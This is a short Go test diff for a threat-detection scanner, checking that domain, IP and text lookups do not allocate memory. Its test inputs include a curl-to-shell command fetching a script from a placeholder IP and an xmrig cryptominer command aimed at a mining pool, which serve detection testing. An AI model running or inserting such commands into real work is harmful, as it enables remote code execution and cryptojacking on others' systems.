@@ -305,6 +305,8 @@ func TestLookupsDoNotAllocate(t *testing.T) {
 		"FindDomain/miss":      func() { s.FindDomain("miner-pools", "curl -fsSL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz") },
 		"FindIP":               func() { s.FindIP("curl http://198.51.100.7:8080/x.sh | sh") },
 		"FindIP/miss":          func() { s.FindIP("sleep 3600; date 12:30:00; echo 1.2.3") },
+		"ScanText":             func() { s.ScanText("./xmrig -o POOL.supportxmr.com:3333 --url http://198.51.100.7/ x.oast.fun") },
+		"ScanText/miss":        func() { s.ScanText("java -jar /app/service.jar --db=jdbc:postgresql://db.prod.svc:5432/x 10.0.0.1") },
 	}
 	for name, f := range lookups {
 		if n := testing.AllocsPerRun(100, f); n != 0 {
